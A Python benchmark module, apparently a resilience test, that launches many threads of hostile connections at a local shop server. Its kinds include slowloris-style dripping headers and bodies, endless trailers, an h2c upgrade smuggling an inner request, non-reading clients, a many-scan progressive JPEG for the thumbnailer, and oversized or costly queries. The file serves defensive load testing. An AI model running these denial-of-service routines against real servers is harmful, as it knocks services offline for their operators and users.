"""Connections that mean no good, one kind at a time, as a process of their own on 127.0.0.1.

    python -m bench.hostile KIND URL CONNECTIONS SECONDS

Each connection goes on until the time is over; what the server refuses or closes is begun anew.
"""

import os
import socket
import struct
import sys
import threading
import time
import zlib
from collections.abc import Callable, Mapping
from contextlib import suppress
from io import BytesIO
from urllib.parse import quote, urlsplit

import requests
from PIL import Image

PAUSE_S = 0.05  # between two attacks of one connection: the machine is the server's as well
TIMEOUT_S = 5
HOST = b"Host: shop\r\n"

Attack = Callable[["Target"], None]


class Target:
    """The server under attack, with what an attacker finds out or makes beforehand."""

    def __init__(self, url: str, until: float) -> None:
        self.url, self.until = url, until
        parts = urlsplit(url)
        self.address = (str(parts.hostname), int(parts.port or 80))
        self.picture = ""
        self.file = ""
        self.token = ""

    def connect(self, receive_buffer: int = 0) -> socket.socket:
        """A new connection, maybe with a tiny receive buffer."""
        connection = socket.socket()
        if receive_buffer:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        connection.settimeout(TIMEOUT_S)
        connection.connect(self.address)
        return connection

    @property
    def is_over(self) -> bool:
        """Whether it is time to stop."""
        return time.monotonic() > self.until

    def prepare(self, kind: str) -> None:
        """Log in and upload what the kind asks for. Raises: `AssertionError` where that is refused."""
        data = self._hook("wechat/login", {"users_wx_code": "demo-mallory"})
        self.token = data["token"]
        if kind == thumbnail.__name__:
            self.picture = self._upload("scans.jpg", _progressive(), "image/jpeg")
        if kind == file_reader.__name__:
            content = b"%PDF-1.7\n" + os.urandom(9 * 1024 * 1024)
            self.file = self._upload("large.pdf", content, "application/pdf")

    def _hook(self, path: str, body: Mapping[str, object]) -> dict[str, str]:
        answer = requests.post(f"{self.url}/pb/api/{path}", json=body, timeout=30)
        found: dict[str, str] = answer.json()["data"]
        return found

    def _upload(self, name: str, content: bytes, kind: str) -> str:
        """Upload a file. Returns: its path."""
        answer = requests.post(
            f"{self.url}/pb/api/collections/tbl_attachments/records",
            headers={"Authorization": f"Bearer {self.token}"},
            files={"attachments_link": (name, content, kind)},
            timeout=30,
        )
        assert answer.status_code == 200, f"{name} was refused: {answer.text}"
        row = answer.json()
        return f"/pb/api/files/tbl_attachments/{row['id']}/{row['attachments_link']}"

    def ask(self, head: bytes, body: bytes = b"") -> None:
        """Send a whole request and read what comes until the server closes."""
        with self.connect() as connection:
            connection.sendall(head + HOST + b"Connection: close\r\n\r\n" + body)
            while connection.recv(65536):
                pass

    def get(self, path: str) -> None:
        """GET a path as a guest."""
        self.ask(b"GET " + path.encode() + b" HTTP/1.1\r\n")


def _progressive() -> bytes:
    """A progressive JPEG of some 800 scans: the last scan of a small one, again and again."""
    buffer = BytesIO()
    Image.effect_noise((256, 256), 60).save(buffer, "JPEG", progressive=True, quality=80)
    data = buffer.getvalue()
    last = data.rfind(b"\xff\xda")
    return data[:last] + data[last:-2] * 800 + data[-2:]


def tall_picture() -> bytes:
    """A PNG of 1 x 1,000 pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", 1, 1000, 8, 0, 0, 0, 0)
    rows = zlib.compress(b"\0\0" * 1000)
    start = b"\x89PNG\r\n\x1a\n"
    return start + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def silent(target: Target) -> None:
    """Connect and say nothing."""
    with target.connect() as connection:
        _until_closed(target, connection)


def half_head(target: Target) -> None:
    """Half a head, a byte a second."""
    with target.connect() as connection:
        connection.sendall(b"GET /pb/api/health HTTP/1.1\r\nX-Slow: ")
        _drip(target, connection)


def dripping_body(target: Target) -> None:
    """A body that comes a byte a second."""
    with target.connect() as connection:
        head = b"POST /pb/api/wechat/login HTTP/1.1\r\nContent-Type: application/json\r\n"
        connection.sendall(head + HOST + b"Content-Length: 60000\r\n\r\n{")
        _drip(target, connection)


def endless_trailers(target: Target) -> None:
    """Chunked, and then trailers without end."""
    with target.connect() as connection:
        head = b"POST /pb/api/wechat/login HTTP/1.1\r\nTransfer-Encoding: chunked\r\n"
        connection.sendall(head + HOST + b"Content-Type: application/json\r\n\r\n2\r\n{}\r\n0\r\n")
        while not target.is_over:
            connection.sendall(b"X1: " + b"a" * 8192 + b"\r\n")
            time.sleep(PAUSE_S)


def upgrade_offer(target: Target) -> None:
    """An offer to upgrade, with a body that is the next request to whoever does not read it."""
    inner = b"GET /pb/api/health HTTP/1.1\r\nHost: shop\r\n\r\n"
    head = b"POST /pb/api/system/users-count HTTP/1.1\r\nUpgrade: h2c\r\n"
    with target.connect() as connection:
        head += b"Connection: Upgrade\r\n" + HOST + b"Content-Length: %d\r\n\r\n" % len(inner)
        connection.sendall(head + inner)
        connection.recv(65536)


def file_reader(target: Target) -> None:
    """Asks for a file of 9 MiB and does not read."""
    with target.connect(receive_buffer=2048) as connection:
        connection.sendall(b"GET " + target.file.encode() + b" HTTP/1.1\r\n" + HOST + b"\r\n")
        _until_closed(target, connection, reads=False)


def list_reader(target: Target) -> None:
    """Asks for the longest list again and again on one connection, and does not read."""
    with target.connect(receive_buffer=2048) as connection:
        path = b"/pb/api/collections/tbl_product_list/records?perPage=1000"
        connection.sendall((b"GET " + path + b" HTTP/1.1\r\n" + HOST + b"\r\n") * 20)
        _until_closed(target, connection, reads=False)


def thumbnail(target: Target) -> None:
    """A thumbnail of a picture of hundreds of scans."""
    target.get(f"{target.picture}?thumb=100x100")


def spaces_in_media_type(target: Target) -> None:
    """A media type of 12,000 spaces."""
    head = b"GET /pb/api/collections/tbl_product_list/records HTTP/1.1\r\n"
    kind = b"Content-Type: multipart/form-data" + b" " * 12_000 + b"x\r\n"
    target.ask(head + kind + b"Content-Length: 2\r\n", b"{}")


def empty_items(target: Target) -> None:
    """An order of 100,000 empty items."""
    body = b'{"order_source":"product","items":[' + b"{}," * 100_000 + b"{}]}"
    head = b"POST /pb/api/order/create HTTP/1.1\r\nContent-Type: application/json\r\n"
    bearer = b"Authorization: Bearer " + target.token.encode() + b"\r\n"
    target.ask(head + bearer + b"Content-Length: %d\r\n" % len(body), body)


def excerpts(target: Target) -> None:
    """Long excerpts of every document."""
    asked = quote("document_content:excerpt(100000,true)")
    target.get(f"/pb/api/collections/tbl_document/records?perPage=500&fields={asked}")


def expensive_filter(target: Target) -> None:
    """A filter of many strftime calls over all products."""
    one = "strftime('%Y-%m-%d', created) != '2001-01-01'"
    asked = quote(" && ".join([one] * 20))
    target.get(f"/pb/api/collections/tbl_product_list/records?perPage=500&filter={asked}")


def slow_login(target: Target) -> None:
    """Logins for which WeChat takes its time."""
    code = f"slow-4-{os.urandom(4).hex()}".encode()
    body = b'{"users_wx_code":"' + code + b'"}'
    head = b"POST /pb/api/wechat/login HTTP/1.1\r\nContent-Type: application/json\r\n"
    target.ask(head + b"Content-Length: %d\r\n" % len(body), body)


KINDS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        silent,
        half_head,
        dripping_body,
        endless_trailers,
        upgrade_offer,
        file_reader,
        list_reader,
        thumbnail,
        spaces_in_media_type,
        empty_items,
        excerpts,
        expensive_filter,
        slow_login,
    )
}


def _drip(target: Target, connection: socket.socket) -> None:
    while not target.is_over:
        connection.sendall(b"a")
        time.sleep(1)


def _until_closed(target: Target, connection: socket.socket, *, reads: bool = True) -> None:
    """Wait for the server to close, or for the end; what is not read stays with the server."""
    connection.settimeout(0.5)
    while not target.is_over:
        if not reads:
            time.sleep(0.5)
            continue
        with suppress(TimeoutError):
            if not connection.recv(4096):
                return


def _again_and_again(attack: Attack, target: Target) -> None:
    while not target.is_over:
        with suppress(OSError):  # refused, closed or timed out: it comes back
            attack(target)
        time.sleep(PAUSE_S)


def main(kind: str, url: str, connections: str, seconds: str) -> None:
    """Attack for so long; one line on stdout says that it has begun."""
    target = Target(url, time.monotonic() + float(seconds) + TIMEOUT_S)
    target.prepare(kind)
    target.until = time.monotonic() + float(seconds)
    threads = [
        threading.Thread(target=_again_and_again, args=(KINDS[kind], target), daemon=True)
        for _ in range(int(connections))
    ]
    for thread in threads:
        thread.start()
    print("attacking", flush=True)
    for thread in threads:
        thread.join(max(0.0, target.until + TIMEOUT_S - time.monotonic()))


if __name__ == "__main__":
    main(*sys.argv[1:])
